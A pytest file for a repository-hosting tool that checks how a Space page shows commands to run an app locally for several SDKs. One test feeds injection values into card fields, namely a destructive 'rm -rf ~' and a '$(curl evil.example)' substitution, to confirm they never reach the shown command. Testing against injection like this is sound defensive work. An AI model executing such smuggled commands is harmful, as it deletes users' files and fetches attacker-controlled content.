"""The commands that run a Space on a machine of one's own."""

import pytest

from hubkeep.repos import Kind


def shown(site, card, files=None):
    text = "---\n" + card + "\n---\nAn app.\n"
    site.repo("ada/app", Kind.SPACE, {"README.md": text.encode(), **(files or {})}, sdk="static")
    return site.browser().page("/spaces/ada/app")


@pytest.mark.parametrize(
    ("card", "files", "expected"),
    [
        ("sdk: static", {}, "python -m http.server 7860"),
        ("sdk: gradio\nsdk_version: 5.1.0\napp_file: main.py", {}, "python main.py"),
        ("sdk: gradio", {"requirements.txt": b"x"}, "pip install gradio -r requirements.txt"),
        ("sdk: docker\napp_port: 8501", {}, "docker run --rm -p 7860:8501 app"),
        ("sdk: streamlit", {}, "streamlit run app.py"),
    ],
)
def test_a_space_tells_how_to_run_it_where_one_is(site, card, files, expected):
    page = shown(site, card, files)
    assert expected in page
    assert "It does not run them" in page
    assert "--local-dir app" in page


def test_what_a_card_says_is_no_command(site):
    page = shown(site, 'sdk: gradio\nsdk_version: "1; rm -rf ~"\napp_file: "../../x.py $(curl evil.example)"')
    code = page.partition("on your machine")[2].partition("</details>")[0]
    assert "rm -rf" not in code
    assert "evil" not in code
    assert "app.py" in code


def test_a_space_that_does_not_say_with_what_it_runs_is_only_fetched(site):
    page = shown(site, "title: x")
    assert "on your machine" not in page.partition("Run it")[2].partition("huggingface_hub")[0]
